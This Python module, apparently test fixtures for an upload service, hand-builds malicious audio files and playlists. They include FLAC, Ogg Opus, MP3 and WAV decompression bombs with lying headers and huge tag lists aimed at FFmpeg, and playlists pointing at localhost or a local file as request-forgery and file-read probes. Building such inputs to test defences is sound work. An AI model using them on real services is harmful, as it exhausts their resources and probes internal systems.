"""Uploads that cost more than they show: small files of hours, headers that lie, tags without end, playlists.

Each is made by hand from the formats' own descriptions (FLAC: RFC 9639, Ogg: RFC 3533, Opus: RFC 6716 and 7845), so
that no encoder has to sit through the hours.
"""

import struct
from collections.abc import Callable, Iterable, Iterator
from typing import Final

MOST: Final = 7_900_000
"""Bytes of the largest ones: just within what a gateway takes by default."""


def flac_of_silence(blocks: int, extra: bytes = b"") -> bytes:
    """`blocks` × 65,535 samples of silence, stereo, 24 bit at 48 kHz; the header does not say how many."""
    info = (
        struct.pack(">HH", 65_535, 65_535) + bytes(6) + struct.pack(">Q", 48_000 << 44 | 1 << 41 | 23 << 36) + bytes(16)
    )
    frames = (_flac_block(number) for number in range(blocks))
    head = b"fLaC" + (b"\0" if extra else b"\x80") + len(info).to_bytes(3, "big") + info
    return head + extra + b"".join(frames)


def _flac_block(number: int) -> bytes:
    """Sync, 16-bit block size, 48 kHz, two channels, 24 bit, the block's number; then two constant subframes of 0."""
    head = b"\xff\xf8\x7a\x1c" + chr(number).encode("utf-8", "surrogatepass") + b"\xff\xfe"
    body = head + bytes([_crc(head, 8, 0x07)]) + (b"\0" + bytes(3)) * 2
    return body + _crc(body, 16, 0x8005).to_bytes(2, "big")


def _crc(data: bytes, bits: int, polynomial: int) -> int:
    value, top, mask = 0, 1 << (bits - 1), (1 << bits) - 1
    for byte in data:
        value ^= byte << (bits - 8)
        for _ in range(8):
            value = (value << 1 ^ polynomial) & mask if value & top else value << 1 & mask
    return value


def flac_of_empty_blocks() -> bytes:
    """Two million blocks of metadata with nothing in them."""
    return flac_of_silence(1, b"\x01\0\0\0" * (MOST // 4) + b"\x81\0\0\0")


def flac_of_comments() -> bytes:
    """Every comment another name: FFmpeg looks through all it has for each."""
    return flac_of_silence(1, b"\x84" + len(_comments(MOST)).to_bytes(3, "big") + _comments(MOST))


def _comments(size: int) -> bytes:
    pairs = [b"%x=" % number for number in range(size // 12)]
    listed = b"".join(struct.pack("<I", len(pair)) + pair for pair in pairs)
    return struct.pack("<I", 0) + struct.pack("<I", len(pairs)) + listed


def ogg(packets: Iterable[bytes], *, granule: Callable[[int], int], flags: int = 0, serial: int = 1) -> bytes:
    """Packets as pages, up to 255 small ones on each; the first two alone. `granule` is told how many are done."""
    given = iter(packets)
    pages = [_page(next(given), 2, 0, serial, 0)]
    pages += _long_page(next(given), serial)
    for done, page in _filled(given):
        number = len(pages)
        lacing = bytes(len(packet) for packet in page)
        pages.append(_page(b"".join(page), flags, granule(done), serial, number, lacing))
    return b"".join(pages)


def _filled(packets: Iterator[bytes]) -> Iterator[tuple[int, list[bytes]]]:
    done, page = 0, []
    for packet in packets:
        page.append(packet)
        if len(page) == 255:  # noqa: PLR2004 - segments of a page
            done += len(page)
            yield done, page
            page = []
    if page:
        yield done + len(page), page


def _long_page(packet: bytes, serial: int) -> list[bytes]:
    """A packet of any length, over as many pages as it needs."""
    lacing = b"\xff" * (len(packet) // 255) + bytes([len(packet) % 255])
    pages = []
    for number, start in enumerate(range(0, len(lacing), 255)):
        piece = packet[start * 255 : (start + 255) * 255]
        pages.append(_page(piece, 1 if start else 0, 0, serial, number + 1, lacing[start : start + 255]))
    return pages


def _page(body: bytes, flags: int, granule: int, serial: int, number: int, lacing: bytes | None = None) -> bytes:
    lacing = b"\xff" * (len(body) // 255) + bytes([len(body) % 255]) if lacing is None else lacing
    head = b"OggS\0" + struct.pack("<BqIII", flags, granule, serial, number, 0) + bytes([len(lacing)]) + lacing
    checksum = _ogg_crc(head + body)
    return head[:22] + struct.pack("<I", checksum) + head[26:] + body


def _table() -> list[int]:
    return [_crc(bytes([byte]), 32, 0x04C11DB7) for byte in range(256)]


_CRC_TABLE: Final = _table()


def _ogg_crc(data: bytes) -> int:
    value = 0
    for byte in data:
        value = (value << 8 & 0xFFFFFFFF) ^ _CRC_TABLE[value >> 24 ^ byte]
    return value


def opus_head(channels: int = 1, family: int = 0) -> bytes:
    """The first packet of Ogg Opus."""
    mapping = bytes([channels, 0, *range(channels)]) if family else b""
    return b"OpusHead\x01" + struct.pack("<BHIhB", channels, 0, 48_000, 0, family) + mapping


OPUS_TAGS: Final = b"OpusTags" + bytes(8)
OPUS_120_MS: Final = b"\xe3\x30"
"""CELT, 2.5 ms, code 3: 48 frames without a byte each, that is 120 ms of silence in two bytes."""
_OPUS_SAMPLES: Final = 5_760


def opus_of_hours(packets: int) -> bytes:
    """Silence with honest times: 120 ms of every 3 bytes."""
    return ogg([opus_head(), OPUS_TAGS, *[OPUS_120_MS] * packets], granule=lambda done: done * _OPUS_SAMPLES)


def opus_that_lies(packets: int) -> bytes:
    """The same; every page says that the second is not over."""
    return ogg([opus_head(), OPUS_TAGS, *[OPUS_120_MS] * packets], granule=lambda _: 48_000)


def opus_that_ends_and_ends(packets: int) -> bytes:
    """Each page is the last one and cut to nothing: hours are decoded and thrown away, and no sample comes out."""
    return ogg([opus_head(), OPUS_TAGS, *[OPUS_120_MS] * packets], granule=lambda _: 1, flags=4)


def opus_of_comments(size: int = MOST // 2) -> bytes:
    """A comment packet of megabytes, each comment another name."""
    return ogg([opus_head(), b"OpusTags" + _comments(size), OPUS_120_MS], granule=lambda done: done * _OPUS_SAMPLES)


def ogg_of_streams(streams: int) -> bytes:
    """Thousands of streams begin, and none goes on."""
    return b"".join(_page(opus_head(), 2, 0, serial, 0) for serial in range(streams))


def mp3_of_hours(frames: int) -> bytes:
    """MPEG-2.5 layer III at 8 kHz and 8 kbit/s, mono: 72 ms of silence in 72 bytes."""
    return (b"\xff\xe3\x18\xc4" + bytes(68)) * frames


def mp3_of_tags() -> bytes:
    """Eight hundred thousand ID3 tags one after the other, and no music."""
    return b"ID3\x04\0\0\0\0\0\0" * (MOST // 10)


def mp3_of_names() -> bytes:
    """One ID3 tag with a TXXX frame of another name every 19 bytes."""
    frames = b"".join(b"TXXX" + struct.pack(">I", 9) + b"\0\0\0%06x\0v" % n for n in range(MOST // 2 // 19))
    size = len(frames)
    syncsafe = bytes(size >> shift & 127 for shift in (21, 14, 7, 0))
    return b"ID3\x03\0\0" + syncsafe + frames + mp3_of_hours(20)


def wav(chunks: bytes, samples: bytes = bytes(3_200), rate: int = 16_000, channels: int = 1) -> bytes:
    """PCM16 after `chunks`."""
    form = struct.pack("<HHIIHH", 1, channels, rate, rate * 2 * channels & 0xFFFFFFFF, 2 * channels, 16)
    body = b"WAVEfmt " + struct.pack("<I", 16) + form + chunks + b"data" + struct.pack("<I", len(samples)) + samples
    return b"RIFF" + struct.pack("<I", len(body)) + body


def wav_of_chunks() -> bytes:
    """Nearly a million empty chunks before the sound."""
    return wav(b"junk\0\0\0\0" * (MOST // 8))


def wav_of_names() -> bytes:
    """A list of half a million names, each of them new."""
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    codes = (bytes([a, b, c, d]) for a in alphabet for b in alphabet for c in alphabet for d in alphabet)
    entries = b"".join(code + b"\x02\0\0\0v\0" for code, _ in zip(codes, range(MOST // 10), strict=False))
    return wav(b"LIST" + struct.pack("<I", len(entries) + 4) + b"INFO" + entries)


PLAYLISTS: Final[dict[str, bytes]] = {
    "sdp": b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 40404 RTP/AVP 0\r\n",
    "m3u8": b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nhttp://127.0.0.1:9/a.ts\n#EXT-X-ENDLIST\n",
    "concat": b"ffconcat version 1.0\nfile pyproject.toml\n",
    "dash": b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>http://127.0.0.1:9/</BaseURL></MPD>',
    "imf": b'<?xml version="1.0"?><CompositionPlaylist><Id>urn:uuid:0</Id></CompositionPlaylist>',
}
"""Texts that name something else to be opened."""

BOMBS: Final[dict[str, Callable[[], bytes]]] = {
    "flac of two hours": lambda: flac_of_silence(5_600),
    "ogg opus of hours": lambda: opus_of_hours(255 * 400),
    "ogg opus, lying times": lambda: opus_that_lies(255 * 400),
    "ogg opus, ends and ends": lambda: opus_that_ends_and_ends(255 * 400),
    "mp3 of two hours": lambda: mp3_of_hours(MOST // 72),
    "wav of empty chunks": wav_of_chunks,
    "wav of names": wav_of_names,
    "flac of empty blocks": flac_of_empty_blocks,
    "flac of comments": flac_of_comments,
    "ogg opus of comments": opus_of_comments,
    "ogg of streams": lambda: ogg_of_streams(20_000),
    "mp3 of tags": mp3_of_tags,
    "mp3 of names": mp3_of_names,
    "opus of 255 channels": lambda: ogg(
        [opus_head(255, 255), OPUS_TAGS, *[OPUS_120_MS] * 2_000], granule=lambda d: d * 5_760
    ),
    "wav at 1 Hz": lambda: wav(b"", bytes(100), rate=1),
    "wav at 2 GHz": lambda: wav(b"", bytes(MOST), rate=2**31 - 1),
}
"""What each is, and how it is made."""
